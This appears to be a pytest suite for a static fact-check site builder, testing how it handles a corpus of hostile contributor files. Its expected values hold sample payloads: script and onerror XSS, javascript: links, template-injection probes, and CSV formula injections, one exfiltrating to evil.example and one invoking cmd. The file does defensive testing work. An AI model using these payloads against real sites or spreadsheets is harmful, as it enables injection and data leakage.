"""The hostile-input corpus (tests/hostile/): every crafted file is refused precisely or published inertly.

Refused files are validated one at a time in a copy of the fixture project, next to another broken
claim whose problem must still be reported. Accepted files are built all together with real
``mkdocs build --strict`` (once per session), and every page of that site is checked: no script but the
theme's and our JSON-LD, no event-handler attribute, no javascript:/data:/vbscript: URL, no foreign
element in the content, nothing loaded from another host, JSON-LD that parses. The browser half is
tests/browser/test_hostile_browser.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections import Counter
from pathlib import Path
from xml.etree import ElementTree

import pytest
from markupsafe import escape

from site_builder.errors import ProblemsFound
from site_builder.model import ArticleMeta, Claim, Source
from site_builder.routes import claimant_slugs
from site_builder.config import read_settings
from site_builder.project import load_site

from .conftest import CLAIM, make_project
from .hostile.corpus import (
    CASES,
    DANGEROUS_SCHEMES,
    FOREIGN_ELEMENTS,
    HOUSE_FORMAT_RE,
    JSON_LD_RE,
    LOADING_ATTRIBUTES,
    LOADING_RELS,
    THEME_SCRIPT_SRC_RE,
    UNPRINTABLE_RE,
    URL_ATTRIBUTES,
    AcceptedSite,
    Case,
    PageScan,
    build_accepted,
    case_files,
    content_html,
    generate,
    is_external,
    theme_inline_script,
    url_scheme_text,
    write_with_needs,
)

# another passage than output-rose-40-percent's: two claims quoting one passage is an error of its own
ALSO_BAD = CLAIM.replace("rating: supported", "rating: nope").replace("quote: Output rose by 40% last year",
                                                                      "quote: the minister said on Monday")
ALSO_BAD_PROBLEM = "claims/also-bad.yaml:6:9: rating: 'nope' is not on the rating scale"


def marked(cases: list[Case]) -> list[object]:
    """Cases as pytest params: a known finding is a strict xfail, with its reason."""
    return [
        pytest.param(case, id=case.id, marks=pytest.mark.xfail(reason=case.spec["xfail"], strict=True))
        if "xfail" in case.spec else pytest.param(case, id=case.id)
        for case in cases
    ]


BY_NAME = {case.name: case for case in CASES if case.kind == "claims"}


def of(outcome: str) -> list[Case]:
    return [case for case in CASES if case.outcome == outcome]


# -- the corpus itself ---------------------------------------------------------------------------


def test_every_corpus_file_has_an_expectation_and_every_expectation_a_file() -> None:
    assert case_files() == sorted(case.id for case in CASES)


# Which cases attack which field: every field of a claim and of an article has at least one.
FIELD_CASES = {
    "claims": {
        "id (file name)": ["aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.yaml", "оutput-rose.yaml", "Bad_Name.yaml", "2.yaml", "index.yaml", "wrong-extension.yml"],
        "id": ["lookalike-id-field.yaml"],
        "title": ["script-in-title.yaml", "non-bmp-every-field.yaml", "noncharacter-in-title.yaml", "lone-surrogate.yaml", "entity-in-title.yaml", "yaml-escape-in-title.yaml", "multiline-title.yaml",
                  "title-csv-formula.yaml", "csv-formula-disguised.yaml",
                  "title-too-long.yaml", "title-jinja-markdown.yaml", "title-zero-width.yaml"],
        "quote": ["quote-inside-quote.yaml", "quote-spans-markup.yaml", "non-bmp-every-field.yaml", "quote-markdown-link.yaml", "quote-jinja.yaml", "quote-div-breakout.yaml",
                  "bidi-isolate-in-quote.yaml", "quote-vs-zero-width.yaml", "rtl-marks-in-quote.yaml"],
        "article": ["jinja-in-article-id.yaml", "quote-in-front-matter-article.yaml"],
        "claimant": ["markup-in-claimant.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "claimant-attribute-breakout.yaml", "claimant-lookalike.yaml",
                     "claimant-cyrillic-a.yaml", "claimant-named-index.yaml",
                     "claimant-latin-peskov.yaml", "claimant-named-like-a-slug.yaml",
                     "claimant-very-long.yaml"],
        "attribution": ["attribution-script.yaml"],
        "rating": ["rating-attribute-injection.yaml"],
        "summary": ["script-in-summary.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "summary-yaml-escapes.yaml", "rtl-override-in-summary.yaml"],
        "context": ["context-script.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "context-event-handlers.yaml", "context-iframe-embed.yaml",
                    "context-style-breakout.yaml", "context-svg-math.yaml", "context-javascript-links.yaml",
                    "context-data-vbscript-links.yaml", "context-images.yaml", "context-reference-links.yaml",
                    "context-autolinks.yaml", "context-entities.yaml", "context-link-titles.yaml", "context-jinja.yaml",
                    "context-snippets.yaml", "context-html-comments.yaml", "context-code-breakout.yaml",
                    "context-mutation-xss.yaml", "context-unicode-tricks.yaml", "context-bidi-entity.yaml",
                    "context-long.yaml", "context-deep-list.yaml", "context-bracket-flood.yaml"],
        "sources[].title": ["source-title-note.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml"],
        "sources[].published": ["date-far-future.yaml", "published-underscores.yaml"],
        "sources[].url": ["javascript-source-url.yaml", "vbscript-source-url.yaml", "source-url-breakout.yaml"],
        "sources[].publisher": ["source-publisher-blank-lines.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml"],
        "sources[].note": ["source-title-note.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "escape-sequence-in-note.yaml"],
        "sources[].archive_url": ["data-archive-url.yaml", "source-url-breakout.yaml"],
        "tags": ["long-ids.yaml", "lookalike-tag.yaml", "tags-related-aliases.yaml", "tag-named-index.yaml", "deep-nesting.yaml"],
        "related": ["long-ids.yaml", "lookalike-related.yaml", "tags-related-aliases.yaml"],
        "aliases": ["long-ids.yaml", "alias-path-traversal.yaml", "alias-takes-over-claim.yaml", "tags-related-aliases.yaml"],
        "authors": ["authors-markup.yaml", "reviewers-attribute-breakout.yaml"],
        "reviewers": ["reviewers-attribute-breakout.yaml"],
        "reviewed": ["reviewed-injection.yaml", "date-far-future.yaml"],
        "updated": ["reviewed-injection.yaml", "date-far-future.yaml"],
        "corrections": ["date-far-future.yaml", "corrections-note.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "corrections-date-injection.yaml"],
        "status": ["status-injection.yaml", "draft-with-script.yaml"],
        "provenance": ["provenance-fields.yaml", "provenance-script.yaml", "provenance-values.yaml"],
        "appearances": ["appearance-markup.yaml"],
        "(YAML)": ["python-tag.yaml", "billion-laughs.yaml", "duplicate-key.yaml", "tab-indentation.yaml",
                   "yaml-anchors.yaml", "yaml-merge-key.yaml", "newline-in-field-name.yaml", "unknown-field-onload.yaml",
                   "escape-sequence-in-duplicate-key.yaml", "deep-nesting-huge.yaml"],
        "(file)": ["too-large.yaml", "binary.yaml", "not-utf8.yaml", "bom.yaml", "zero-bytes.yaml", "whitespace-only.yaml",
                   "comment-only.yaml", "only-document-markers.yaml", "list.yaml", "scalar.yaml"],
    },
    "articles": {
        "id (file name)": ["оutput-article.md"],
        "title": ["script-in-title.md", "non-bmp-every-field.md", "noncharacter-front-matter.md", "hostile-front-matter.md"],
        "published": ["date-far-future.md", "published-hex.md"],
        "retrieved": ["date-far-future.md"],
        "outlet": ["entity-in-outlet.md", "non-bmp-every-field.md", "noncharacter-front-matter.md", "hostile-front-matter.md"],
        "url": ["javascript-url.md", "hostile-front-matter.md", "duplicate-key-front-matter.md"],
        "author": ["rtl-in-author.md", "non-bmp-every-field.md", "noncharacter-front-matter.md", "hostile-front-matter.md"],
        "notes": ["notes-markup.md", "non-bmp-every-field.md", "noncharacter-front-matter.md"],
        "archive_url": ["data-archive-url.md", "hostile-front-matter.md"],
        "language": ["language-injection.md"],
        "title_language": ["title-language-injection.md"],
        "excerpt": ["excerpt-not-boolean.md", "appearance-markup.md"],
        "front matter": ["no-front-matter.md", "unclosed-front-matter.md", "empty-front-matter.md",
                         "comment-only-front-matter.md", "empty-front-matter-yaml-body.md", "front-matter-list.md",
                         "python-tag-front-matter.md", "billion-laughs-front-matter.md", "tab-in-front-matter.md",
                         "unknown-field-onload.md", "crlf-line-endings.md"],
        "body": ["line-separators-body.md", "script-in-body.md", "non-bmp-every-field.md", "noncharacter-body.md", "html-comment-body.md", "markdown-in-body.md", "jinja-in-body.md",
                 "long-line-body.md", "huge-body.md", "binary-body.md", "not-utf8-body.md", "bom-article.md",
                 "empty-body.md", "rtl-override-body.md", "rtl-marks-body.md", "zero-width-body.md", "control-chars-body.md",
                 "div-breakout-body.md", "quote-spans-markup.md"],
    },
}


def test_each_claim_case_quotes_its_own_passage() -> None:
    """Two claims quoting one passage of an article is an error: no case may be refused, or fail the
    accepted build, for quoting the sentence another case quotes."""
    quoted = Counter()
    for case in CASES:
        text = case.source.read_bytes().decode("utf-8", "replace") if case.kind == "claims" else ""
        quoted.update(re.findall(r"^quote: (Output rose by 40% last year in region \d+)$", text, re.M))
    assert len(quoted) > 90 and quoted.most_common(1)[0][1] == 1, quoted.most_common(3)


def test_the_corpus_covers_every_field() -> None:
    counts = Counter(case.outcome for case in CASES)
    assert len(CASES) >= 40 and counts["refused"] >= 20 and counts["published"] >= 20, counts
    names = {case.id for case in CASES}
    for kind, fields in FIELD_CASES.items():
        for name, cases in fields.items():
            missing = [case for case in cases if f"{kind}/{case}" not in names]
            assert not missing, f"{kind} field {name}: no such cases {missing}"
    model_fields = set(Claim.model_fields) | {"sources[]." + f for f in Source.model_fields}
    assert model_fields - {"sources", "sources[].published"} <= set(FIELD_CASES["claims"])
    assert set(ArticleMeta.model_fields) - {"published", "retrieved"} <= set(FIELD_CASES["articles"])


# -- refused -------------------------------------------------------------------------------------


def problems_of(root: Path) -> list[str]:
    with pytest.raises(ProblemsFound) as found:
        load_site(read_settings(root / "mkdocs.yml"))
    return [str(problem) for problem in found.value.problems]


@pytest.mark.parametrize("case", marked(of("refused") + of("refused_like")))
def test_refused_precisely(case: Case, tmp_path: Path) -> None:
    project = make_project(tmp_path / "project")
    write_with_needs(case, project.root)
    project.write_claim("also-bad", ALSO_BAD)
    found = problems_of(project.root)
    mine = [line for line in found if line.startswith(case.shown + ":")]
    if case.outcome == "refused":
        assert mine == case.spec["refused"]
    else:
        patterns = case.spec["refused_like"]
        assert len(mine) == len(patterns) and all(re.fullmatch(p, line) for p, line in zip(patterns, mine)), mine
    # printed to terminals and CI logs: one line each, no control characters
    assert not [line for line in mine if UNPRINTABLE_RE.search(line)], "a problem line holds control characters"
    # the other file's problem is still reported in the same run
    assert any(line.startswith(ALSO_BAD_PROBLEM) for line in found), found


def test_problems_cannot_forge_lines_in_a_ci_log(tmp_path: Path) -> None:
    """What `site-builder validate` prints for a hostile field name: no line of its output may start a
    GitHub Actions workflow command ('::') or hold an escape sequence."""
    project = make_project(tmp_path / "project")
    for name in ("newline-in-field-name.yaml", "escape-sequence-in-duplicate-key.yaml"):
        write_with_needs(BY_NAME[name], project.root)
    result = project.run(sys.executable, "-m", "site_builder", "validate")
    assert result.returncode == 1
    lines = (result.stdout + result.stderr).splitlines()
    assert len(lines) == 4, lines  # three problems (the key written twice is also unknown) and the count
    assert not [line for line in lines if line.startswith("::") or "\x1b" in line], lines


# -- handled: refused precisely or published, never a crash, a hang or a clobbered page ---------


@pytest.mark.parametrize("case", marked(of("handled")))
def test_handled_without_crash_hang_or_clobbered_page(case: Case, tmp_path: Path) -> None:
    project = make_project(tmp_path / "project")
    write_with_needs(case, project.root)
    spec = case.spec["handled"]
    result = generate(project.root, spec.get("seconds", 60))
    if "refused" in result:
        lines = result["refused"]
        assert lines, "refused without a problem"
        house = re.compile(HOUSE_FORMAT_RE.format(path=re.escape(case.shown)))
        assert all(house.fullmatch(line) for line in lines), f"problems not in the house format: {lines}"
        assert not [line for line in lines if UNPRINTABLE_RE.search(line)], lines
        return
    pages = result["pages"]
    for uri, text in spec.get("intact", {}).items():
        assert text in pages.get(uri, ""), f"{uri} no longer holds {text!r}: it was replaced"
    for uri, needles in spec.get("must_not_contain", {}).items():
        assert uri in pages, f"{uri} was not generated"
        assert not [n for n in needles if n in pages[uri]], f"{uri} holds {[n for n in needles if n in pages[uri]]}"


# -- published: one strict build of every accepted case -----------------------------------------


@pytest.fixture(scope="session")
def accepted(tmp_path_factory: pytest.TempPathFactory) -> AcceptedSite:
    return build_accepted(tmp_path_factory.getbasetemp())


@pytest.fixture(scope="session")
def scans(accepted: AcceptedSite) -> dict[str, tuple[str, PageScan]]:
    """Every built HTML page, relative path -> (html, its scan)."""
    out = {}
    for path in accepted.html_pages():
        html = path.read_text(encoding="utf-8")
        out[path.relative_to(accepted.out).as_posix()] = (html, PageScan(html))
    return out


@pytest.mark.parametrize("case", marked(of("published")))
def test_published_inertly(case: Case, accepted: AcceptedSite, scans: dict[str, tuple[str, PageScan]]) -> None:
    for page in case.spec.get("absent", []):
        assert not (accepted.out / page).exists(), f"{page} was published"
    for page in case.pages:
        assert page in scans, f"{page} was not built"
        html, scan = scans[page]
        html, text = content_html(html), scan.content_text
        for needle in case.spec.get("must_contain", []):
            assert needle in html, f"{page}: {needle!r} is missing"
        tags = " ".join(TAG_RE.findall(html))
        for needle in case.spec.get("must_not_contain", []):
            # text may hold '"' and '=' raw (a sanitised page is written that way): look for attributes in tags
            assert needle not in (html if needle.startswith("<") else tags), f"{page}: {needle!r} is in the HTML"
        for needle in case.spec.get("must_show", []):
            assert " ".join(needle.split()) in text, f"{page}: the reader does not see {needle!r}"
        for needle in case.spec.get("must_not_show", []):
            assert needle not in text, f"{page}: the reader sees {needle!r}"


# A start tag with its attributes, quoted values included (they may hold '>').
TAG_RE = re.compile(r"""<[a-zA-Z][^\s/>]*(?:\s+[^\s/>"'=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*\s*/?>""")


def test_every_page_was_checked(scans: dict[str, tuple[str, PageScan]], accepted: AcceptedSite) -> None:
    """The accepted build has a page for every accepted claim and article, and the checks below saw them."""
    for case in accepted.cases:
        for page in case.pages:
            assert page in scans, f"{case.id}: {page} was not built"
    assert len(scans) > len(accepted.cases)


def _baseline_theme_scripts(scans: dict[str, tuple[str, PageScan]]) -> set[str]:
    """The theme's own inline scripts, from a page whose content is ours (the methodology page)."""
    _, scan = scans["methodology/index.html"]
    return {theme_inline_script(s.text) for s in scan.scripts if not s.attrs}


# The page at a claim's former id (redirect.html.j2) sends readers on with the #fragment: its one script.
REDIRECT_SCRIPT_RE = re.compile(r'location\.replace\("\.\./[a-z0-9-]+(?:/|\.html)" \+ location\.hash\)')


def test_no_script_but_the_themes_and_our_json_ld(scans: dict[str, tuple[str, PageScan]]) -> None:
    theme = _baseline_theme_scripts(scans)
    assert theme, "the methodology page has no theme scripts to compare with"
    bad = []
    for page, (html, scan) in scans.items():
        if len(re.findall(r"<script\b", html, re.I)) != len(scan.scripts):
            bad.append(f"{page}: '<script' appears where no script element starts")
        json_ld = 0
        for script in scan.scripts:
            attrs = script.attrs
            if attrs == {"type": "application/ld+json"}:
                json_ld += 1
                if not script.in_content:
                    bad.append(f"{page}: JSON-LD outside the content")
            elif script.in_content:
                bad.append(f"{page}: a script in the content: {attrs} {script.text[:80]!r}")
            elif set(attrs) == {"src"} and THEME_SCRIPT_SRC_RE.fullmatch(attrs["src"]) and not script.text.strip():
                continue
            elif attrs == {"id": "__config", "type": "application/json"}:
                json.loads(script.text)
            elif not attrs and theme_inline_script(script.text) in theme:
                continue
            elif not attrs and 'http-equiv="refresh"' in html and REDIRECT_SCRIPT_RE.fullmatch(script.text):
                continue
            else:
                bad.append(f"{page}: an unknown script {attrs} {script.text[:80]!r}")
        if json_ld > 1:
            bad.append(f"{page}: {json_ld} JSON-LD blocks")
    assert not bad, "\n".join(bad)


# attributes that run, restyle or take focus; never in contributor content
CONTENT_ATTRIBUTES = {"style", "autofocus", "srcdoc", "formaction", "contenteditable", "popover", "xmlns", "is"}


def test_no_event_handler_attributes(scans: dict[str, tuple[str, PageScan]]) -> None:
    bad = [f"{page}: <{e.tag} {name}={value!r}>" for page, (_, scan) in scans.items() for e in scan.elements
           for name, value in e.attrs.items()
           if name.startswith("on") or (e.in_content and not e.theme_icon and name in CONTENT_ATTRIBUTES)]
    assert not bad, "\n".join(bad)


def test_no_dangerous_url_in_any_attribute(scans: dict[str, tuple[str, PageScan]]) -> None:
    bad = []
    for page, (_, scan) in scans.items():
        for element in scan.elements:
            for name, value in element.attrs.items():
                urls = [value]
                if name in ("srcset", "imagesrcset"):
                    urls = [part.split()[0] for part in value.split(",") if part.split()]
                elif element.tag == "meta" and name == "content" and "url=" in value.lower():
                    urls = [value.lower().split("url=", 1)[1]]
                elif name not in URL_ATTRIBUTES:
                    continue
                bad += [f"{page}: <{element.tag} {name}={value!r}>" for url in urls
                        if url_scheme_text(url).startswith(DANGEROUS_SCHEMES)]
    assert not bad, "\n".join(bad)


def test_nothing_loads_from_another_host(scans: dict[str, tuple[str, PageScan]]) -> None:
    bad = []
    for page, (_, scan) in scans.items():
        for element in scan.elements:
            for name, value in element.attrs.items():
                loads = name in LOADING_ATTRIBUTES or (
                    element.tag == "link" and name == "href"
                    and LOADING_RELS & set(element.attrs.get("rel", "").lower().split()))
                if loads and is_external(value):
                    bad.append(f"{page}: <{element.tag} {name}={value!r}>")
    assert not bad, "\n".join(bad)


def test_no_foreign_element_in_the_content(scans: dict[str, tuple[str, PageScan]]) -> None:
    bad = []
    for page, (_, scan) in scans.items():
        for element in scan.elements:
            if not element.in_content or element.tag not in FOREIGN_ELEMENTS:
                continue
            if element.tag == "script" and element.attrs == {"type": "application/ld+json"}:
                continue  # ours, checked above
            if element.theme_icon and element.tag in ("svg",):
                continue  # the theme's edit/view buttons carry an inline icon
            bad.append(f"{page}: <{element.tag} {element.attrs}>")
    assert not bad, "\n".join(bad)


def test_json_ld_parses_and_cannot_leave_its_script(scans: dict[str, tuple[str, PageScan]]) -> None:
    seen = 0
    for page, (html, _) in scans.items():
        for block in JSON_LD_RE.findall(html):
            seen += 1
            assert "<" not in block and "</script" not in block.lower(), f"{page}: '<' inside JSON-LD"
            data = json.loads(block)
            assert isinstance(data, dict) and data.get("@context") == "https://schema.org", page
    assert seen >= len(of("published")), "fewer JSON-LD blocks than accepted cases"


def test_template_syntax_is_never_evaluated(accepted: AcceptedSite, scans: dict[str, tuple[str, PageScan]]) -> None:
    """Wherever contributor text held '{{ 7*7 }}', pages show it, and never the 49 it would evaluate to."""
    written = {" ".join(prefix.split()) for case in accepted.cases
               for prefix in re.findall(r"([^\n{}'\"]{3,30}) ?\{\{ 7\*7 \}\}", case.data().decode("utf-8"))}
    assert len(written) >= 5, written
    pages = [page for page, (_, scan) in scans.items() if "{{ 7*7 }}" in scan.content_text]
    assert len(pages) >= 8, pages
    evaluated = [(page, prefix) for page, (_, scan) in scans.items() for prefix in written
                 if f"{prefix} 49" in scan.content_text or f"{prefix}49" in scan.content_text]
    assert not evaluated, evaluated


SEARCH_MARKUP_RE = re.compile(r"<(/?)([a-zA-Z][\w:-]*)([^>]*)>")
SEARCH_TAGS = {"code", "pre", "strong", "em", "b", "i", "mark", "p", "ul", "ol", "li", "blockquote", "table", "thead",
               "tbody", "tr", "th", "td", "sup", "sub", "h1", "h2", "h3", "h4", "h5", "h6", "br", "hr", "dl", "dt", "dd"}


def test_the_search_index_holds_no_live_markup(accepted: AcceptedSite) -> None:
    """The theme renders search results with innerHTML: the index may hold only harmless tags, without
    attributes; contributor text in it is escaped."""
    index = json.loads((accepted.out / "search" / "search_index.json").read_text(encoding="utf-8"))
    bad = []
    for doc in index["docs"]:
        for key in ("title", "text"):
            for _, tag, attrs in SEARCH_MARKUP_RE.findall(doc.get(key, "")):
                if tag.lower() not in SEARCH_TAGS or attrs.strip():
                    bad.append(f"{doc.get('location')}: {key} holds <{tag}{attrs}>")
    assert not bad, "\n".join(bad)
    assert any("&lt;script&gt;" in doc.get("text", "") for doc in index["docs"]), "no escaped payload indexed"


def test_open_data_and_feeds_parse(accepted: AcceptedSite) -> None:
    """Hostile text reaches the open data and the feeds too: each must still parse, and hold it as text."""
    for name in ("data/claims.json", "data/claimreview.json", "feed.json"):
        json.loads((accepted.out / name).read_text(encoding="utf-8"))
    feed = ElementTree.parse(accepted.out / "feed.xml").getroot()
    titles = [item.findtext("title") for item in feed.iter("item")]
    assert "Claim: Output {{ 7*7 }} {% raw %} [rose](javascript:alert(1)) **by** 40% last year | Rated Supported" in titles
    # readers render a description as HTML: once decoded as XML, it must still hold the payloads as escaped text
    descriptions = [item.findtext("description") or "" for item in feed.iter("item")]
    assert not [text for text in descriptions if "<" in text or ">" in text]
    assert any("&lt;script&gt;window.__pwned = 1&lt;/script&gt;&lt;img src=x onerror=" in text for text in descriptions)
    assert any("&lt;/time&gt;&lt;/li&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in text for text in descriptions)
    rows = list(csv.DictReader(io.StringIO((accepted.out / "data" / "claims.csv").read_text(encoding="utf-8"))))
    assert len(rows) == len(json.loads((accepted.out / "data" / "claims.json").read_text(encoding="utf-8"))["claims"])


def test_open_data_csv_cells_cannot_run_as_formulas(accepted: AcceptedSite) -> None:
    rows = list(csv.DictReader(io.StringIO((accepted.out / "data" / "claims.csv").read_text(encoding="utf-8"))))
    starts = "=+-@\uff1d\uff0b\uff0d\uff20"
    formulas = [(row["id"], column, value) for row in rows for column, value in row.items()
                if value and (value.lstrip("".join(INVISIBLE) + " ")[:1] in starts or value[0] in "\t\r")]
    assert not formulas, formulas
    disguised = next(row for row in rows if row["id"] == "csv-formula-disguised")
    assert (disguised["title"], disguised["claimant"], disguised["summary"][:3]) == (
        "'＝HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Output rose by 40% last year\")",
        "'\u200b=cmd|' /C calc'!A0", "'\ufeff\u2060")
    # behind a right-to-left mark, which prose may carry
    assert next(row for row in rows if row["id"] == "rtl-marks-in-quote")["summary"].startswith("'\u200f=HYPERLINK(")


# what a spreadsheet skips before reading a formula: invisible characters a contributor may put first
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u200e", "\u200f", "\u061c"]


def test_every_claimant_gets_a_page_of_their_own(accepted: AcceptedSite) -> None:
    site = load_site(read_settings(accepted.root / "mkdocs.yml"))
    slugs = claimant_slugs(claim.claimant for claim in site.published)
    names_by_slug: dict[str, set[str]] = {}
    for claim in site.published:
        names_by_slug.setdefault(slugs[claim.claimant], set()).add(claim.claimant)
        page = (accepted.out / "claimants" / slugs[claim.claimant] / "index.html").read_text(encoding="utf-8")
        assert f"Claims by {claim.claimant} " in PageScan(page).content_text
    shared = {slug: sorted(names) for slug, names in names_by_slug.items() if len(names) > 1}
    assert not shared, f"different claimants share a page: {shared}"


def test_every_link_to_a_quote_in_its_article_lands_on_an_anchor(scans: dict[str, tuple[str, PageScan]]) -> None:
    """Many accepted claims quote the same words, or words inside another's quote: each claim page's
    "see the quote in the article" link must reach an id that exists on the article page."""
    ids_of: dict[str, set[str]] = {}
    checked = 0
    for page, (html, _) in scans.items():
        if not page.startswith("claims/"):
            continue
        for article, anchor in re.findall(r'href="\.\./\.\./articles/([^/"]+)/#([^"]+)"', html):
            if article not in ids_of:
                ids_of[article] = {e.attrs["id"] for e in scans[f"articles/{article}/index.html"][1].elements
                                   if "id" in e.attrs}
            assert anchor in ids_of[article], f"{page}: #{anchor} is not on articles/{article}/"
            checked += 1
    assert checked > 40, checked


def test_non_bmp_text_is_the_page_title_and_description(scans: dict[str, tuple[str, PageScan]]) -> None:
    """Emoji in a title or summary once broke the YAML of the generated front matter, and MkDocs then
    showed it as Markdown (live HTML from a field): the title and description must arrive whole."""
    html, _ = scans["claims/non-bmp-every-field/index.html"]
    title = "🚀 Output rose *em*{: autofocus onfocus=window.__pwned=1 } [link](javascript:window.__pwned=1) 🇺🇦"
    assert f"<title>Claim: {escape(title)} | Rated Supported - " in html  # the verdict travels with it
    summary = "🚀 Yes. [Read more](javascript:alert(1)) *x*{: onmouseover=alert(1) } ![img](https://evil.example/s.png)"
    assert f'<meta name="description" content="Supported. {escape(summary)}">' in html
    html, _ = scans["articles/non-bmp-every-field/index.html"]
    assert "<title>🚀 Officials say *em*{: autofocus onfocus=window.__pwned=1 } " in html
